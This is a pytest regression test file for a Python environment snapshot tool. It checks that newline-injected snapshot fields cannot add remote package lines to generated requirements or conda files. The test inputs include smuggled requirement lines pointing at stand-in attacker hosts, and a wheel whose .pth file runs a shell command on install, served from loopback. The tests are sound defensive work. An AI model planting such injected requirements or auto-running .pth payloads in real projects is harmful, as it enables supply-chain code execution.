"""#39 item 1: no field of a snapshot reaches a generated file unvalidated. A newline in `env.python`
used to add `evilpkg @ http://attacker/...` (with its hash) to a bundle's requirements.txt, which
`snapshot bundle` fetched and an offline restore ran. Files are built from checked values now
(snapshot/pins.py); the sane-input control next to each attack writes the same file as before."""

from __future__ import annotations

import dataclasses
import hashlib
from pathlib import Path

import pytest

from tests.support.restore_kit import (  # noqa: F401 (fixtures)
    Provisioned,
    cli,
    needs_gcc,
    served_index,
    source_env,
)
from tests.support.snapshot_doc import env_record, make
from tfgpu_install.errors import BadInputError, ExitCode
from tfgpu_install.snapshot import model as S
from tfgpu_install.snapshot.exports import conda_environment, conda_environment_yml, requirements_txt
from tfgpu_install.snapshot.schema import recorded_resolution

EVIL = "3.11.7\nevilpkg @ http://127.0.0.1:9/evilpkg-1.0-py3-none-any.whl --hash=sha256:" + "e" * 64


def _lines(text: str) -> list[str]:
    return [ln for ln in text.splitlines() if ln.strip() and not ln.lstrip().startswith("#")]


def test_a_newline_in_env_python_adds_no_requirement() -> None:
    sane = make(packages=(S.Package("numpy", "1.26.4", ("sha256:" + "a" * 64,)),))
    hostile = dataclasses.replace(sane, env=env_record({"path": "/envs/tf", "backend": "venv", "python": EVIL}),
                                  resolution=recorded_resolution({"tensorflow": "2.17.1\nevil2 @ http://x/",
                                                                  "python": "3.11"}))
    assert _lines(requirements_txt(hostile)) == _lines(requirements_txt(sane))
    assert "evil" not in requirements_txt(hostile) and "Python unknown" in requirements_txt(hostile)
    assert "Python 3.11.7" in requirements_txt(sane)  # the control: a plain value is shown


@pytest.mark.parametrize("package", [
    S.Package("numpy\nevil @ http://x/", "1.0"), S.Package("numpy", "1.0\nevil @ http://x/"),
    S.Package("numpy", "1.0", ("sha256:" + "a" * 64 + "\nevil @ http://x/",)), S.Package("evil @ http://x/", "1"),
])
def test_a_package_that_is_not_plain_is_refused_never_written(package: S.Package) -> None:
    snap = make(packages=(package,))
    hash_only = package.name == "numpy" and package.version == "1.0"  # environment.yml carries no hashes
    for render in (requirements_txt,) if hash_only else (requirements_txt, conda_environment_yml):
        with pytest.raises(BadInputError) as info:
            render(snap)
        assert info.value.code == ExitCode.BAD_INPUT and "not a plain one" in info.value.message


def test_conda_prefix_is_only_a_plain_absolute_path() -> None:
    files = (S.FileRecord("lib/python3.11/site-packages/nvidia/cudnn/lib/libcudnn.so.9", "b" * 64, 1),)
    sane = conda_environment(make(files=files, env={"path": "/envs/tf", "python": "3.11.7"}))
    assert sane["prefix"] == "/envs/tf" and sane["variables"]["LD_LIBRARY_PATH"].startswith("/envs/tf/lib/")
    for path in ("/envs/../etc/tf", "/envs/tf\nx", "/envs/a:b", "relative/tf"):
        doc = conda_environment(make(files=files, env={"path": path, "python": "3.11.7"}))
        assert "prefix" not in doc and "variables" not in doc, path


@needs_gcc
def test_snapshot_bundle_fetches_nothing_a_snapshot_field_names(
    source_env: Provisioned, tmp_path: Path, capsys: pytest.CaptureFixture[str]  # noqa: F811
) -> None:
    """The attack end to end: a real snapshot of a real env, its env.python carrying a requirement
    line for a wheel on a loopback server; `snapshot bundle` with the real pip. The server sees
    no request and the bundle holds only the snapshot's wheels. Control: the same bundle of the
    untouched snapshot."""
    from tests.support.httpserver import LoopbackServer
    from tests.support.wheelhouse import WheelSpec, build_wheel

    evil = build_wheel(WheelSpec("evilpkg", "1.0", files={"evilpkg.pth": b"import os; os.system('touch PWNED')\n"}),
                       tmp_path / "evil")
    data = evil.read_bytes()
    snap_file = tmp_path / "snap.yaml"
    code, doc = cli(["snapshot", "export", "--env", str(source_env.env), "-o", str(snap_file)],
                    source_env.environ, capsys)
    assert code == 0, doc
    with LoopbackServer() as srv:
        srv.add(f"/{evil.name}", data)
        line = f"evilpkg @ {srv.url('/' + evil.name)} --hash=sha256:{hashlib.sha256(data).hexdigest()}"
        text = snap_file.read_text()
        py = S.load(snap_file).env.python
        hostile = tmp_path / "hostile.yaml"
        hostile.write_text(text.replace(f"python: {py}", f"python: \"{py}\\n{line}\"", 1))
        assert S.load(hostile).env.python == f"{py}\n{line}"  # the loader takes it: free text
        for name, source in (("control", snap_file), ("attack", hostile)):
            out = tmp_path / name
            code, doc = cli(["snapshot", "bundle", str(source), "-o", str(out)], source_env.environ, capsys)
            assert code == 0, (name, doc)
            assert not list((out / "wheels").glob("evilpkg*")) and "evil" not in (out / "requirements.txt").read_text()
        assert srv.requests == []
    assert sorted(p.name for p in (tmp_path / "attack" / "wheels").iterdir()) == \
        sorted(p.name for p in (tmp_path / "control" / "wheels").iterdir())
